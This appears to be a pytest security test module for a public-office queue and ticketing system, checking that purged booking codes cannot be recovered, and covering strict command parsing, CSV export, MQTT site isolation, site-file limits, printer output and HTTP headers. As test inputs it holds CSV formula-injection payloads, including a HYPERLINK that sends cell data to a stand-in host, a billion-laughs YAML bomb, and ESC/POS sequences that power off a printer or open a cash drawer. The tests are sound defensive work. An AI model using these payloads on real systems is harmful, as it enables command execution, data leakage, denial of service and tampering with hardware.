"""Data and input (issue 13): purged booking codes stay gone, strict commands, check-in
answers, CSV in and out, site files, the printer, the collector, the live page's headers."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import socket
import sqlite3
import subprocess
import time
from collections.abc import Callable
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path

import pytest

from central.collector import Collector
from central.store import CentralStore
from link.mqtt import Connection
from link.protocol.roles import Device, Role
from link.protocol.topics import Topics
from live_page.app import SECURITY_HEADERS
from live_page.process import WebProcess
from loket.broker import Mosquitto
from printer_drivers import PrinterModel, encode_ticket
from printer_drivers.samples import sample_ticket
from queue_engine.adapters import migrations
from queue_engine.adapters.memory_store import MemoryStore
from queue_engine.adapters.sqlite_store import SqliteStore
from queue_engine.domain import commands as c
from queue_engine.domain.events import (
    CounterStatusChanged,
    Event,
    TicketCalled,
    TicketIssued,
    event_to_json,
)
from queue_engine.domain.model import Channel, CounterStatus, PriorityClass, Site, TicketKind, utc
from queue_engine.hub.dispatch import Refused, parse
from queue_engine.hub.event_log import entry
from queue_engine.importing import import_file, parse_csv
from queue_engine.reporting.report import write_report
from queue_engine.service.engine import Engine
from siteconfig import ConfigError, load_site_config, parse_site_config
from tests.mqtt_fixtures import ROOT, TOWNHALL, until
from tests.sites import Desk, local
from tests.web_fixtures import get, web_fixture  # noqa: F401

pytestmark = pytest.mark.security

HEADER = "booking_code,start,services\n"
BOOKED = [
    ("AB12CD", "2026-12-01 10:00"),
    ("EF34GH", "2026-12-01 10:30"),
    ("JK56MN", "2026-12-04 09:00"),
]


# --- 6: purged booking codes ------------------------------------------------------------


def _hashes(code: str, start: datetime, services: str) -> set[str]:
    """What an attacker computes for a candidate code (the old derived id among them)."""
    key = f"{code}|{start.isoformat()}|{services}"
    return {hashlib.sha1(key.encode()).hexdigest()[:16], hashlib.sha256(key.encode()).hexdigest()}


def test_purged_booking_codes_cannot_be_recovered(site: Site, tmp_path: Path) -> None:
    path, db = tmp_path / "export.csv", tmp_path / "site.db"
    path.write_text(HEADER + "".join(f"{code},{start},passport\n" for code, start in BOOKED))
    with SqliteStore(db, site.id) as store:
        engine = Engine(site, store)
        assert import_file(engine, path, local("2026-11-30 18:00")).imported == 3
        again = import_file(engine, path, local("2026-11-30 18:00"))
        assert (again.imported, again.unchanged) == (0, 3)
        path.write_text(path.read_text().replace(",", ";"))  # saved anew: matched, not doubled
        assert import_file(engine, path, local("2026-11-30 19:00")).updated == 3
        desk = Desk(engine, local("2026-12-01 10:00"))
        assert desk.ok(c.CheckIn, booking_code="AB12CD").ticket
        desk.now = local("2026-12-01 12:00")
        desk.ok(c.SetCounterStatus, counter_id="c1", status=CounterStatus.OPEN)  # EF34GH missed
        log = [event_to_json(e) for e in store.events()]
        published = [entry(site.id, n, e).model_dump_json() for n, e in enumerate(store.events())]
        engine.apply_retention(local("2027-02-01 12:00"))
    dump = "\n".join(sqlite3.connect(db).iterdump())
    ids = [row[0] for row in sqlite3.connect(db).execute("SELECT id FROM appointments")]
    assert len(ids) == 3
    readable = "\n".join([dump, *log, *published])
    for code, start in BOOKED:
        assert code not in readable
        for digest in _hashes(code, utc(local(start)), "passport"):
            assert digest not in readable, f"{code} recovered from {digest}"
    events = "\n".join(log + published)
    assert not any(appointment_id in events for appointment_id in ids)
    assert "appointment_id" not in events


def test_an_older_store_loses_its_derived_appointment_ids(tmp_path: Path) -> None:
    derived = "csv-0c6d0dcd26c517b0"
    conn = sqlite3.connect(tmp_path / "old.db")
    with conn:
        migrations.upgrade(conn, 3)
        event = json.dumps({"appointment_id": derived, "at": "2026-12-01T09:00:00+00:00"})
        conn.execute(
            "INSERT INTO events (at, type, payload) VALUES (?, ?, ?)",
            ("2026-12-01T09:00:00", "AppointmentMissed", event),
        )
        purged = json.dumps({"id": derived, "booking_code": "", "ticket_id": 7, "initials": None})
        conn.execute(
            "INSERT INTO appointments (id, booking_code, start, data) VALUES (?, NULL, ?, ?)",
            (derived, "2026-12-01T09:00:00", purged),
        )
        ticket = json.dumps({"id": 7, "appointment_ids": [derived]})
        conn.execute(
            "INSERT INTO tickets VALUES (7, '2026-12-01', 'P001', 'p', 'done', '2026-12-01', ?)",
            (ticket,),
        )
        migrations.upgrade(conn)
    dump = "\n".join(conn.iterdump())
    (new_id, data) = conn.execute("SELECT id, data FROM appointments").fetchone()
    (ticket_data,) = conn.execute("SELECT data FROM tickets").fetchone()
    conn.close()
    assert derived not in dump and 'appointment_id"' not in dump
    assert new_id.startswith("apt-") and json.loads(data)["id"] == new_id
    assert json.loads(ticket_data)["appointment_ids"] == [new_id]


# --- 10c: strict commands ---------------------------------------------------------------

STAFF = Device("staff-loket-3", Role.STAFF, counter="loket-3")
KIOSK = Device("kiosk-inkom", Role.KIOSK)


@pytest.mark.parametrize(
    ("device", "verb", "payload", "meant"),
    [
        (STAFF, "hold", {"minutes": "7"}, 7),
        (STAFF, "hold", {"ticket_id": "7"}, 7),
        (STAFF, "hold", {"minutes": 8.0}, 8),
        (KIOSK, "lease_numbers", {"count": 8.0}, 8),
        (KIOSK, "lease_numbers", {"count": "8"}, 8),
        (STAFF, "issue_ticket", {"force": "off"}, False),
        (STAFF, "issue_ticket", {"force": 0}, False),
        (STAFF, "cancel", {"ticket_id": True}, 1),
    ],
)
def test_commands_are_read_strictly(
    device: Device, verb: str, payload: dict[str, object], meant: object
) -> None:
    base = (
        {"request_id": "r1", "service_id": "eid"}
        if "ticket" in verb or "numbers" in verb
        else {"request_id": "r1"}
    )
    with pytest.raises(Refused) as refused:
        parse(device, device.id, verb, json.dumps({**base, **payload}).encode())
    assert refused.value.code == "invalid_request"
    (key,) = payload
    parse(device, device.id, verb, json.dumps({**base, key: meant}).encode())  # what was meant


# --- 10d: check-in answers --------------------------------------------------------------


def test_a_kiosk_is_not_told_another_days_appointment_time(site: Site) -> None:
    desk = Desk(Engine(site, MemoryStore()), local("2026-11-30 18:00"))
    result = parse_csv(HEADER + "JK56MN,2026-12-04 09:00,passport\n", site)
    desk.ok(c.ImportAppointments, appointments=tuple(result.appointments))
    desk.now = local("2026-12-01 10:00")
    at_kiosk = desk.run(c.CheckIn, booking_code="JK56MN", channel=Channel.KIOSK).error
    assert at_kiosk is not None and at_kiosk.details == {"reason": "other_day", "when": None}
    assert "09:00" not in at_kiosk.message and "12-04" not in at_kiosk.message
    at_desk = desk.run(c.CheckIn, booking_code="JK56MN", channel=Channel.DESK).error
    assert at_desk is not None and "2026-12-04 09:00" in at_desk.message


# --- 10f, 8: CSV in and out -------------------------------------------------------------


def test_an_unbalanced_quote_costs_its_row_only(site: Site) -> None:
    text = HEADER + 'AB12CD,2026-12-01 10:00,passport\n"EF34GH,2026-12-01 10:30,passport\n'
    text += "JK56MN,2026-12-01 11:00,passport\n"
    result = parse_csv(text, site)
    assert [a.booking_code for a in result.appointments] == ["AB12CD", "JK56MN"]
    (rejected,) = result.rejected
    assert rejected.where == "row 3" and "not valid CSV" in rejected.reason


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\tx",
    "\rx",
]


@pytest.mark.filterwarnings("ignore:Glyph")  # the plots' font lacks the tab and CR
def test_report_csv_cells_never_start_a_formula(site: Site, tmp_path: Path) -> None:
    at = local("2026-12-01 10:00")
    events: list[Event] = []
    for tid, forged in enumerate(FORMULAS, 1):
        kind, priority = TicketKind.WALK_IN, PriorityClass.NORMAL
        number = f"P{tid:03d}"
        events.append(
            TicketIssued(at, tid, number, "passport", kind, priority, Channel.KIOSK, "nl", at)
        )
        events.append(TicketCalled(at, tid, "passport", forged))
    write_report(events, site, date(2026, 12, 1), tmp_path)
    texts = [path.read_text(encoding="utf-8") for path in tmp_path.glob("*.csv")]
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def stored_after(collector: Collector, count: int, send: Callable[[], None], what: str) -> None:
    """Send until the collector has stored `count` events: it subscribes as it comes online
    and does not wait for the broker's SUBACK, so what is sent before may pass it by."""
    until(lambda: send() or collector.stored >= count, what=what)


def test_the_collector_keeps_only_its_sites(mosquitto: Mosquitto, tmp_path: Path) -> None:
    store = CentralStore(tmp_path / "central.db")
    collector = Collector(mosquitto.broker, store, sites=["stad-voorbeeld"], client_id="c-only")
    forger = Connection("forger", mosquitto.broker, on_message=lambda _: None)
    try:
        collector.start()
        forger.start()
        assert collector.connection.wait_online(5) and forger.wait_online(5)
        event = CounterStatusChanged(local("2026-12-01 09:00"), "=cmd|0!A0", CounterStatus.OPEN)

        def send(site: str, seq: int) -> None:
            payload = entry(site, seq, event).model_dump_json().encode()
            forger.publish(Topics(site).events_log, payload)

        stored_after(collector, 1, lambda: send("stad-voorbeeld", 1), "the site's event stored")
        for seq, site in enumerate(("evil-site", "late", "other"), 2):
            send(site, seq)
        send("stad-voorbeeld", 10)  # after the forged ones: they were dropped, not pending
        until(lambda: collector.stored >= 2, what="the second event stored")
        assert {site for site, _ in store.counts()} == {"stad-voorbeeld"}
    finally:
        forger.close()
        collector.close()
        store.close()


def test_on_the_central_broker_a_site_writes_only_its_own_log(tmp_path: Path) -> None:
    passwd, acl = tmp_path / "passwd", ROOT / "deploy" / "mosquitto-central.acl"
    for n, user in enumerate(("collector", "stad-voorbeeld", "wzc-ter-linde")):
        flags = ["-c", "-b"] if n == 0 else ["-b"]
        subprocess.run(["mosquitto_passwd", *flags, str(passwd), user, f"pw-{user}"], check=True)
    as_root = "user root\n" if os.geteuid() == 0 else ""  # else it may not read tmp_path
    central = Mosquitto(extra=f"password_file {passwd}\nacl_file {acl}\n{as_root}").start()
    store = CentralStore(tmp_path / "central.db")
    sites = ["stad-voorbeeld", "wzc-ter-linde"]
    reader = replace(central.broker, username="collector", password="pw-collector")
    collector = Collector(reader, store, sites=sites, client_id="central-collector")
    carehome = replace(central.broker, username="wzc-ter-linde", password="pw-wzc-ter-linde")
    bridge = Connection("bridge-wzc", carehome, on_message=lambda _: None)
    try:
        collector.start()
        bridge.start()
        assert collector.connection.wait_online(5) and bridge.wait_online(5)
        event = CounterStatusChanged(local("2026-12-01 09:00"), "=cmd|0!A0", CounterStatus.OPEN)

        def send(site: str, seq: int) -> None:
            payload = entry(site, seq, event).model_dump_json().encode()
            bridge.publish(Topics(site).events_log, payload)

        stored_after(collector, 1, lambda: send("wzc-ter-linde", 1), "the care home's event")
        send("stad-voorbeeld", 2)  # another site's log: the ACL refuses it
        send("wzc-ter-linde", 3)
        until(lambda: collector.stored >= 2, what="the care home's second event stored")
        assert {site for site, _ in store.counts()} == {"wzc-ter-linde"}
    finally:
        bridge.close()
        collector.close()
        store.close()
        central.close()


# --- 9: site files ----------------------------------------------------------------------

LAUGHS = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [
        f"{n}: &{n} [{','.join([f'*{p}'] * 9)}]"
        for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    ]
)


def test_a_billion_laughs_is_refused_at_once() -> None:
    began = time.perf_counter()
    with pytest.raises(ConfigError, match="aliases"):
        parse_site_config(LAUGHS, "laughs.yaml")
    assert time.perf_counter() - began < 1.0


def test_a_50_mb_site_file_is_refused_at_once(tmp_path: Path) -> None:
    path = tmp_path / "huge.yaml"
    path.write_text(TOWNHALL.read_text() + ("# " + "x" * 98 + "\n") * 500_000)
    assert path.stat().st_size > 50_000_000
    began = time.perf_counter()
    with pytest.raises(ConfigError, match="too big"):
        load_site_config(path)
    assert time.perf_counter() - began < 1.0


# --- printer: control characters ---------------------------------------------------------

ESC_INIT, GS_CUT, EPSON_POWER_OFF = "\x1b@", "\x1dV\x00", "\x10\x14\x02\x01\x08"


def test_control_characters_never_reach_the_printer() -> None:
    clean = sample_ticket(datetime(2026, 12, 1, 10, 4), "nl")
    drawer = "\x1bp\x00\x19\xfa"  # open the cash drawer
    forged = replace(
        clean,
        service_name=f"{ESC_INIT}Paspoort{GS_CUT}{EPSON_POWER_OFF}",
        site_name=clean.site_name + drawer,
    )
    model = PrinterModel.from_profile("TM-T88V")
    out = encode_ticket(forged, model)
    # GS is white space to Python (textwrap), so the layout breaks the line there.
    stripped = replace(clean, service_name="@Paspoort V", site_name=clean.site_name + "p\xfa")
    assert out == encode_ticket(stripped, model)
    assert EPSON_POWER_OFF.encode() not in out and drawer[:3].encode() not in out
    assert out.count(ESC_INIT.encode()) == 1 and out.count(b"\x1dV") == 1  # init, the cut


def test_site_file_text_with_control_characters_is_refused() -> None:
    text = TOWNHALL.read_text(encoding="utf-8").replace(
        "name: Loket 1\n", f'name: "Loket 1{ESC_INIT.replace(chr(27), chr(92) + "e")}"\n', 1
    )
    with pytest.raises(ConfigError, match="control characters"):
        parse_site_config(text, "townhall.yaml")


# --- 10e: the live page's headers on every answer -----------------------------------------


def test_every_live_page_answer_carries_the_security_headers(web: WebProcess) -> None:
    base = web.base_url
    for path in ("/healthz", "/nope", "/t/short", "/t/AAAAAAAAAAAAAAAAAAAAAA"):
        status, headers, _ = get(base + path)
        assert status in (200, 404), path
        for name, value in SECURITY_HEADERS.items():
            assert headers.get(name) == value, (path, name)
    with socket.create_connection(("127.0.0.1", web.page.port), timeout=5) as sock:
        sock.sendall(b"NONSENSE\r\n\r\n")  # refused before it reaches the page
        answer = sock.makefile("rb").read().decode("latin-1")
    assert answer.startswith("HTTP/1.1 400")
    assert all(f"{name}: {value}\r\n" in answer for name, value in SECURITY_HEADERS.items())
